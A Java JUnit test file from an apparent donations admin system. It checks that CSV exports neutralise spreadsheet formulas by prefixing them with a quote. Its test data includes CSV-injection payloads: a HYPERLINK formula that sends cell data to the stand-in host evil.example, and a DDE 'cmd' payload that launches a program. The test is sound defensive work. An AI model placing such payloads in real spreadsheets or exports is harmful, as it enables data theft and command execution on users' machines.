package switchboard.records;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import switchboard.testing.AdminNodeTest;

/** CSV both ways: an export a spreadsheet cannot run, an import that takes what Excel writes and points at the right line. */
class RecordsCsvTest extends AdminNodeTest {
    private static final List<String> FORMULAS = List.of("+1+HYPERLINK(\"http://evil.example/?x\"&A1)", "-2+3+cmd|' /C calc'!A0",
            "=1+1", "@SUM(A1)", "+3 apples", "-1.5e3", "\tTAB=1", "\rCR=1", "1+1");
    private static final List<String> NUMBERS = List.of("-12.50", "+3", "42", "0.5");

    @AfterEach
    void emptyDonations() {
        node.database().sql().execute("delete from donations");
    }

    private static void insertDonation(String donor) {
        node.database().sql().execute("insert into donations (donor_name, amount, currency, method, status, transaction_date) "
                + "values (?, 10, 'EUR', 'cash', 'pledged', date '2026-11-01')", donor);
    }

    @Test
    void exportedFormulasArePrefixedAndOnlyPlainNumbersAreNot() {
        FORMULAS.forEach(RecordsCsvTest::insertDonation);
        NUMBERS.forEach(RecordsCsvTest::insertDonation);
        var rows = Csv.parse(admin.get("/records/donations/export?sort=id&dir=asc").body());
        var donors = rows.subList(1, rows.size()).stream().map(r -> r.get(1)).toList();
        for (String formula : FORMULAS) {
            boolean needsPrefix = "=+-@\t\r".indexOf(formula.charAt(0)) >= 0;
            assertTrue(donors.contains(needsPrefix ? "'" + formula : formula), formula + " exported as one of " + donors);
        }
        for (String number : NUMBERS) {
            assertTrue(donors.contains(number), number + " is exported as it is: " + donors);
        }
    }
}
